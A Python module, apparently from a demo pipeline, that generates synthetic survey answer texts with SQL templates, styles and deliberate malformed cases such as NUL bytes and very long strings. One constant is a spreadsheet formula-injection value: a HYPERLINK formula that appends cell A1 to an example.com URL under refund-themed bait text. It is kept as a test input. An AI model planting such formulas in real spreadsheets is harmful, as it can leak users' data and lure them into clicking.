"""Verbatims put together at the engine's speed, from the codes of their pieces."""

import pandas as pd

from pipelines.demo.phrases import SLOTS, STYLES, as_words, personal_pieces, pieces_by_kind, revisions
from pipelines.demo.rows import Rows

VERY_LONG = 1_000_000  # characters

# A spreadsheet formula that a prankster typed: it must stay a text for ever.
FORMULA = '=HYPERLINK("https://www.example.com/?vu="&A1;"Cliquez ici pour le remboursement")'


def words_of(rows: Rows) -> dict[str, pd.Categorical]:
    """Name the pieces of each answer's text, for the query below to put together."""
    pieces = {**pieces_by_kind(), "personal": personal_pieces(), "revision": revisions()}
    words = {name: as_words(rows[name], piece.phrases) for name, piece in pieces.items()}
    return words | {"style": as_words(rows["style"], tuple(STYLES))}


def _filled(piece: str) -> str:
    for slot in SLOTS:
        piece = f"replace({piece}, '{{{slot}}}', {slot}::VARCHAR)"
    return piece


def _capital(text: str) -> str:
    return f"(upper(({text})[1]) || ({text})[2:])"


# An opening that ends a sentence is followed by a capital; any other runs into the core.
_SENTENCE = """CASE WHEN opening IS NULL THEN core ELSE opening::VARCHAR || ' ' ||
    CASE WHEN right(opening::VARCHAR, 1) IN ('.', '!') THEN upper(core[1]) || core[2:] ELSE core END END"""
_STOP = """CASE style WHEN 'lively' THEN CASE WHEN is_english THEN '!' ELSE ' !' END
    WHEN 'dots' THEN '...' WHEN 'hurried' THEN '' ELSE '.' END"""
_GAP = "CASE style WHEN 'two_lines' THEN chr(10) WHEN 'hurried' THEN ', ' ELSE ' ' END"
_STYLED = """CASE style
    WHEN 'hurried' THEN lower(body)
    WHEN 'bare' THEN lower(strip_accents(body))
    WHEN 'shouting' THEN upper(body)
    ELSE body END"""

# The texts: column `verbatim` from the relation `named`; NULL where nothing is written.
WITH_VERBATIM = f"""
WITH filled AS (
    SELECT * REPLACE ({_filled("core::VARCHAR")} AS core, {_filled("detail::VARCHAR")} AS detail,
        {_filled("closing::VARCHAR")} AS closing, {_filled("revision::VARCHAR")} AS revision)
    FROM named
), sentences AS (
    SELECT *, {_SENTENCE} AS sentence, {_STOP} AS stop, {_GAP} AS gap FROM filled
), bodies AS (
    SELECT *, CASE WHEN short IS NOT NULL THEN short::VARCHAR ELSE {_capital("sentence")} || stop
        || coalesce(gap || detail || stop, '') || coalesce(gap || closing || stop, '') END AS body
    FROM sentences
), written AS (
    SELECT *, CASE WHEN spoil = 'formula' THEN '{FORMULA}'
        WHEN spoil = 'very_long' THEN left(repeat(body || ' ', {VERY_LONG // 20}), {VERY_LONG})
        WHEN revision IS NOT NULL THEN coalesce(CASE WHEN writes THEN {_STYLED} || chr(10) END, '') || revision || '.'
        WHEN writes OR spoil = 'nul' THEN {_STYLED} || coalesce(' ' || {_capital("personal::VARCHAR")}, '') END AS plain
    FROM bodies
), texts AS (
    SELECT * EXCLUDE (plain), CASE WHEN spoil = 'nul' THEN plain || chr(0) || ' :(' ELSE plain END AS verbatim
    FROM written
)
"""
